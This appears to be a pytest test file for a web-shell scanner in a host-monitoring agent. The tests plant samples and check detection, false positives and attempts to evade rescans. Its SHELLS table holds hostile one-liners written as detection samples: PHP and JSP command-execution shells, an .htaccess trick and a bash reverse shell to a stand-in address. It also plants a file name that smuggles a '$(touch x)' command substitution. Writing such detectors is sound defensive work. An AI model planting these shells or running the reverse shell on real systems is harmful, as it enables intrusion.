from __future__ import annotations

import os
import sysconfig
import time
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.history import History
from agent.hosts import commands
from checks.fact import Absent, Missing
from checks.facts.script_folders import ScriptFolders
from checks.facts.web_shells import (
    FOLDERS,
    FOUND,
    MARGIN,
    MEMORY,
    WebShells,
    search_everything,
    search_for_changes,
    web_shells,
    web_shells_at_once,
)
from checks.source import Command, Samples
from tests.checks.facts.fuzzing import gives_or_says_why, mixed
from tests.checks.trees import plant

# Written by hand, each the shortest of its kind: harmless without an interpreter, and not copied from anywhere.
SHELLS = {
    "a.php": "<?php @eval($_POST['x']); ?>",
    "b.php": "<?php eval(base64_decode('aGFpCg=='));",
    "c.php": "<?php $_GET['f']($_GET['a']);",
    "d.phtml": '<?php system( $_REQUEST["c"] );',
    "e.php": "<?php preg_replace('/.*/e', $x, '');",
    "f.jsp": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "g.jspx": '<jsp:scriptlet>new ProcessBuilder(request.getParameter("c").split(" "))</jsp:scriptlet>',
    "h.sh": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "i.py": "os.dup2(s.fileno(),0)",
    "j.php": "<title>WSO Shell</title>",
    ".htaccess": "AddHandler application/x-httpd-php .jpg",
    "k.asp": '<%eval request("x")%>',
    "l.php": "<?php include($_GET['p']);",
    "m.php": "<?php include($_GET['p'] . '.php');",
}
HARMLESS = {
    "play.py": "import os, subprocess\nsubprocess.call(['java', '-version'])\n",
    "spse4.sh": "#!/bin/bash\nexec java -jar x.jar > /dev/null\n",
    "index.php": "<?php echo htmlspecialchars($_GET['q'] ?? ''); require_once __DIR__ . '/lib.php';",
    "form.php": "<?php if (isset($_POST['simpan'])) { simpan($_POST['nama']); }",
    "view.jsp": '<%= request.getParameter("id") %>',
    ".htaccess": "Options -Indexes\nAddHandler application/x-httpd-php .php\n",
    "letter.php": "<?php $evaluation = evaluate($nilai); // the alfa of the letters",
}


def found(**folders: Path) -> WebShells:
    """What the real `find` and `grep` say of real folders, all of which is read."""
    return bare(search(**folders))


def bare(result: WebShells) -> WebShells:
    """`result` without what is remembered of it."""
    return WebShells(result.folders, result.searched, result.total, result.paths)


def search(remembered: tuple[Samples, ...] = (), at: float | None = None, **folders: Path) -> WebShells:
    """A search at `at` (seconds since the epoch; now) with what is `remembered` of an earlier one."""
    clock = f"{time.time() if at is None else at:.0f} 2026-11-23\n"
    made = FOLDERS.make(ScriptFolders(**{kind: (str(folder),) for kind, folder in folders.items()}))  # type: ignore[arg-type]
    assert isinstance(made, Command)
    listed = commands.run(made)
    searched = FOUND.make(search_for_changes.parse(clock, listed, remembered))
    assert isinstance(searched, Command)
    return web_shells.parse(clock, listed, commands.run(searched), remembered)


def memory(result: WebShells, **other: float) -> tuple[Samples, ...]:
    """What is remembered of `result`, or `other` in its place."""
    values = {**MEMORY.sample(result), **other}
    return tuple(Samples(subject, ((1.76e9, value),)) for subject, value in values.items())


@pytest.fixture
def later(tmp_path: Path) -> Later:
    """A folder that was searched, some time ago, as far as the dates of its inodes tell."""
    return Later(tmp_path / "www")


class Later:
    """A search of `folder` that is remembered, and a later one. What is written between them is new to the later one."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.quiet = plant(folder, "old/read-before.php", SHELLS["a.php"])  # found only if all is read again
        self.began = 0.0
        self.first: WebShells | None = None

    def wait(self) -> None:
        """Let so much time pass that nothing from before is new any longer."""
        clean = WebShells((), 0, scope=search(web=self.folder).scope)
        since = int(time.time()) + 1
        self.began = since + MARGIN
        self.first = msgspec.structs.replace(clean, began=self.began, whole=self.began - 3600)
        time.sleep(since + 1.1 - time.time())

    def found(self, after: float = 300.0, **other: float) -> set[str]:
        """Names of the scripts with signs that a search finds so many seconds later."""
        assert self.first is not None
        result = search(memory(self.first, **other), self.began + after, web=self.folder)
        assert result.searched >= result.total
        return {path.rpartition("/")[2] for path in result.paths}


@pytest.mark.parametrize("name", SHELLS)
def test_each_kind_of_web_shell_is_found(tmp_path: Path, name: str) -> None:
    shell = plant(tmp_path, f"images/{name}", SHELLS[name])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 1, 1, (str(shell),))


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_scripts_are_left_alone(tmp_path: Path, name: str) -> None:
    plant(tmp_path, name, HARMLESS[name])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 1)


def test_hundreds_of_ordinary_scripts_raise_no_alarm() -> None:
    result = found(web=Path(sysconfig.get_path("stdlib")))

    assert result.searched > 100
    assert result.paths == ()


def test_a_folder_without_scripts_was_searched_all_the_same(tmp_path: Path) -> None:
    plant(tmp_path, "index.html", SHELLS["a.php"])

    assert found(web=tmp_path) == WebShells((str(tmp_path),), 0)


def test_bid_documents_are_never_opened(tmp_path: Path) -> None:
    plant(tmp_path, "file_prod/Penawaran.php", SHELLS["a.php"])
    plant(tmp_path, "webapp/tmp/uploads/Penawaran.php", SHELLS["a.php"])
    plant(tmp_path, "webapp/public/x.php", SHELLS["a.php"])
    result = found(applications=tmp_path)

    assert (result.searched, result.paths) == (1, (str(tmp_path / "webapp/public/x.php"),))


def test_a_name_cannot_play_a_trick(tmp_path: Path) -> None:
    plant(tmp_path, "-e.php", SHELLS["a.php"])
    plant(tmp_path, "in 0 \n.php", SHELLS["a.php"])
    plant(tmp_path, "$(touch x).php", SHELLS["a.php"])

    assert found(web=tmp_path).total == 3


def test_document_stores_alone_are_not_searched() -> None:
    with pytest.raises(Absent):
        FOLDERS.make(ScriptFolders(stores=("/home/file",)))


def test_what_did_not_change_is_counted_and_not_read_again(later: Later) -> None:
    later.wait()
    assert later.found() == set()
    assert later.found(after=90_000) == {"read-before.php"}  # once a day


@pytest.mark.parametrize("other", [{"scope": 1.0}, {"whole": 1.76e9}, {"began": 4e9}, {"began": float("nan")}])
def test_other_folders_and_clocks_that_were_set_back_let_all_be_read(later: Later, other: dict[str, float]) -> None:
    later.wait()
    assert later.found(**other) == {"read-before.php"}


def test_nothing_hides_behind_a_date_that_was_set_back(later: Later) -> None:
    changed = plant(later.folder, "a/changed.php", HARMLESS["index.php"])
    old = changed.stat().st_mtime - 86400 * 300
    (later.folder / "b").mkdir()
    later.wait()
    changed.write_text(SHELLS["c.php"])
    os.utime(changed, (old, old))
    os.utime(plant(later.folder, "b/new.php", SHELLS["b.php"]), (old, old))

    assert later.found() == {"changed.php", "new.php"}


@pytest.mark.parametrize("name", ["x", "[x]*?\\\\", "a b\nc", "-name"])
def test_nothing_hides_in_a_folder_that_came_with_it(later: Later, tmp_path: Path, name: str) -> None:
    plant(tmp_path, "elsewhere/deep/down/shell.php", SHELLS["a.php"])
    plant(tmp_path, "one.php", SHELLS["a.php"])
    (later.folder / "static").mkdir()
    later.wait()
    (tmp_path / "elsewhere").rename(later.folder / "static" / name)
    assert later.found() == {"shell.php"}
    (tmp_path / "one.php").rename(later.folder / "static" / "one.php")
    assert later.found() == {"shell.php", "one.php"}


def test_nothing_hides_behind_a_name_that_is_no_text(later: Later, tmp_path: Path) -> None:
    plant(tmp_path, "elsewhere/shell.php", SHELLS["a.php"])
    later.wait()
    os.rename(os.fsencode(tmp_path / "elsewhere"), os.fsencode(later.folder) + b"/\xff\xfe")
    assert later.found() == {"read-before.php", "shell.php"}


def test_another_folder_under_the_same_name_is_read(later: Later, tmp_path: Path) -> None:
    plant(tmp_path, "elsewhere/shell.php", SHELLS["a.php"])
    later.wait()
    later.folder.rename(tmp_path / "before")
    later.folder.symlink_to(tmp_path / "elsewhere")
    assert later.found() == {"shell.php"}


def test_halves_of_two_memories_let_all_be_read(later: Later) -> None:
    later.wait()
    assert later.first is not None
    began, *others = memory(later.first)
    younger = Samples(began.subject, (*began.points, (1.76e9 + 300, later.began)))
    result = search((younger, *others), later.began + 300, web=later.folder)
    assert result.total == 1


def test_only_a_search_that_found_nothing_is_remembered(tmp_path: Path) -> None:
    shell = plant(tmp_path, "www/a.php", SHELLS["a.php"])
    assert MEMORY.sample(search(web=tmp_path / "www")) == {}
    shell.write_text("<?php")
    clean = search(web=tmp_path / "www")
    assert set(MEMORY.sample(clean)) == {"began", "whole", "scope"}
    assert clean.began == clean.whole > 0


def test_the_agents_own_history_brings_the_memory_back_as_it_was(tmp_path: Path) -> None:
    plant(tmp_path, "www/a.php", "<?php")
    clean = search(web=tmp_path / "www")
    history = History(tmp_path / "history.db", 1)
    history.remember(MEMORY, MEMORY.sample(clean), datetime.now(UTC))
    again = search(history.samples(MEMORY, time.time()), clean.began + 1000, web=tmp_path / "www")
    assert (again.whole, again.scope, again.searched) == (clean.whole, clean.scope, 1)
    assert again.began == clean.began + 1000


def test_of_many_folders_that_changed_all_is_read(tmp_path: Path) -> None:
    listed = "in 0 /a\0dir 1.5 1.2 /a\0" + "".join(f"dir 1795450000.1 1.2 /a/{number}\0" for number in range(60))
    first = search_for_changes.parse("1795450000 2026-11-23", listed, ())
    known = memory(WebShells((), 0, began=first.began, whole=first.whole, scope=first.scope))
    few = listed.replace("dir 1795450000.1", "dir 1.5", 20)
    assert search_for_changes.parse("1795450300 2026-11-23", listed, known).since is None
    assert len(search_for_changes.parse("1795450300 2026-11-23", few, known).changed) == 40


LISTED = "in 0 /a\0dir 1795450000.5 2.77 /a\0"
CLOCK = "1795450461 2026-11-23\n"


@pytest.mark.parametrize("printed", ["", "seen 0\0", "in 0 /a\0closed 0\0", "in 0 /a\0nonsense\0", "in 0 /a\0/a/x\0"])
def test_other_output_is_missing(printed: str) -> None:
    with pytest.raises(Missing):
        web_shells_at_once.parse(CLOCK, LISTED, printed)


@pytest.mark.parametrize("listed", ["", "dir 1 2.77 /a\0", "in 0 /a\0dir x 2.77 /a\0", "in 0 /a\0/a/b\0"])
def test_another_list_of_folders_is_missing(listed: str) -> None:
    with pytest.raises(Missing):
        search_everything.parse(CLOCK, listed)


@given(
    mixed("in 0 /a\0", "seen 0\0", "/a/x.php\0", "closed 0\0"),
    mixed("in 0 /a\0", "dir 1795450000.5 2.77 /a\0", "dir 1.0 1.1 /a/b\0", "closed 0\0"),
    st.dictionaries(st.sampled_from(("began", "whole", "scope", "x")), st.floats(), max_size=4),
)
def test_any_output_gives_a_fact_or_a_reason(text: str, listed: str, values: dict[str, float]) -> None:
    remembered = tuple(Samples(subject, ((1.76e9, value),)) for subject, value in values.items())
    gives_or_says_why(web_shells, CLOCK, listed, text, remembered)
    gives_or_says_why(web_shells_at_once, CLOCK, listed, text)
